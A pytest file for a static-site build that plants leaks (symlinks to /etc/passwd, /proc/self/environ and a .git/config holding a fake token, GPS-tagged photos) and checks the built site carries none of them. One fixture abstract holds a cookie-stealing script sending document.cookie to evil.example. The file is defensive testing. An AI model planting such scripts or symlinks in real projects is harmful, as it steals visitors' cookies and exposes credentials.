"""Nothing private reaches site/: the leaks are planted, the site is searched for them.

The CI builds with secrets in its environment and, unless told otherwise,
a token in `.git/config`. A repository that links to them, a phone photo with
its GPS position and a script in an abstract are planted here; the built
site (and the plain `mkdocs build` of the same project) must carry none of it.
"""

from __future__ import annotations

import hashlib
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from PIL import Image

from .projects import Project, _env, session

SECRET = "geheim-aus-der-ci-7f3a"
"""In the build's environment, as CI secrets are: /proc/self/environ would show it."""
TOKEN = "AUTHORIZATION: basic dG9rZW4tYXVzLWdpdA"
"""In .git/config, as actions/checkout leaves it with persist-credentials."""
PASSWD = "root:x:0:0"
CAMERA = "Pixelphone 9 Pro"
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><dc:creator>Lea Privat</dc:creator></rdf:RDF></x:xmpmeta>'


def gps_photo(size: tuple[int, int] = (320, 240)) -> bytes:
    """A JPEG as a phone makes it: EXIF with camera and GPS position, XMP with the author."""
    image = Image.new("RGB", size, (180, 120, 90))
    exif = Image.Exif()
    exif[0x010F] = "Pixelcorp"   # Make
    exif[0x0110] = CAMERA        # Model
    exif[0x0112] = 1             # Orientation
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (48.0, 8.0, 21.5), 3: "E", 4: (11.0, 34.0, 42.1)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, xmp=XMP, quality=90)
    return out.getvalue()


def _plant_leaks(project: Project) -> None:
    project.write(".git/config", f"[http]\n\textraheader = {TOKEN}\n")
    os.symlink("/etc/passwd", project.root / "content" / "passwd.txt")
    os.symlink("/proc/self/environ", project.root / "content" / "env.txt")
    os.symlink("../.git/config", project.root / "content" / "config.txt")
    os.symlink("/etc/passwd", project.root / "series" / "speakers" / "root.md")
    project.write("series/2021/sessions/auftakt.md",
                  session(abstract="Ein Abstract.\n\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n"))


def _plant_photos(project: Project) -> bytes:
    photo = gps_photo()
    project.write("content/images/speakers/lea.jpg", photo)
    project.write("content/images/team.jpg", gps_photo((200, 100)))
    project.write("content/about.md", "# Über uns\n\n![Das Team](images/team.jpg)\n")
    text = (project.root / "series/speakers/prof-dr-lea-hartmann.md").read_text(encoding="utf-8")
    project.write("series/speakers/prof-dr-lea-hartmann.md",
                  text.replace("sector: academia\n", "sector: academia\nphoto: images/speakers/lea.jpg\n"))
    return photo


def _everything(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def _no_secret_in(files: dict[str, bytes]) -> None:
    for name, data in files.items():
        for secret in (SECRET, TOKEN, PASSWD):
            assert secret.encode() not in data, f"{secret!r} published in {name}"


def _has_metadata(data: bytes) -> list[str]:
    with Image.open(io.BytesIO(data)) as image:
        found = [f"EXIF {tag:#06x}" for tag in image.getexif()]
        found += [f"info {key}" for key in ("exif", "xmp", "XML:com.adobe.xmp", "comment") if image.info.get(key)]
    found += [f"bytes {marker!r}" for marker in (b"Exif\0\0", b"xmpmeta", CAMERA.encode(), b"Lea Privat")
              if marker in data]
    return found


def test_planted_leaks_stop_build_and_reach_no_site(project: Project) -> None:
    _plant_photos(project)
    _plant_leaks(project)
    result = project.run("build", env={"CI_SECRET": SECRET})
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    for link in ("content/passwd.txt", "content/env.txt", "content/config.txt", "series/speakers/root.md"):
        assert f"{link}: Fehler: der Verweis (Symlink)" in result.stderr
    assert not (project.root / "site").exists()
    assert not list(project.root.glob(".site-*"))
    for secret in (SECRET, TOKEN, PASSWD):
        assert secret not in result.stderr  # nothing read through a link is quoted either


def test_plain_mkdocs_build_copies_nothing_either(project: Project) -> None:
    _plant_leaks(project)
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build"], cwd=project.root, capture_output=True,
                            text=True, env=_env("2021-09-01", {"CI_SECRET": SECRET}))
    assert result.returncode == 1
    site = project.root / "site"
    _no_secret_in(_everything(site) if site.exists() else {})
    assert not (site / "passwd.txt").exists() and not (site / "env.txt").exists()


def test_photos_are_published_without_exif_or_xmp(project: Project) -> None:
    original = _plant_photos(project)
    assert _has_metadata(original)  # the planted photo really carries them
    result = project.run("build", env={"CI_SECRET": SECRET})
    assert result.returncode == 0, result.stderr
    site = _everything(project.root / "site")
    _no_secret_in(site)
    images = {name: data for name, data in site.items() if name.lower().endswith((".jpg", ".jpeg", ".png", ".webp"))}
    assert {"images/speakers/lea.jpg", "images/team.jpg", "assets/speakers/prof-dr-lea-hartmann.jpg"} <= set(images)
    for name, data in images.items():
        assert _has_metadata(data) == [], name
    digest = hashlib.sha256(original).digest()
    assert all(hashlib.sha256(data).digest() != digest for data in site.values())
    with Image.open(io.BytesIO(images["images/speakers/lea.jpg"])) as cleaned:
        assert cleaned.size == (320, 240)
        assert max(abs(a - b) for a, b in zip(cleaned.getpixel((10, 10)), (180, 120, 90))) <= 4
    page = BeautifulSoup(site["about/index.html"], "html.parser")
    assert page.find("img", src="../images/team.jpg") is not None


@pytest.mark.parametrize("orientation, size", [(6, (240, 320)), (3, (320, 240))])
def test_a_turned_photo_stays_upright_without_its_exif(project: Project, orientation: int, size: tuple[int, int]) -> None:
    """The EXIF orientation is applied before it is dropped: the photo looks as it did."""
    image = Image.new("RGB", (320, 240), (0, 0, 0))
    image.paste((255, 255, 255), (0, 0, 40, 40))  # a white corner shows which way is up
    exif = Image.Exif()
    exif[0x0112] = orientation
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=95)
    project.write("content/images/turned.jpg", out.getvalue())
    assert project.run("build").returncode == 0
    with Image.open(project.root / "site" / "images" / "turned.jpg") as published:
        assert published.size == size
        assert not published.getexif()
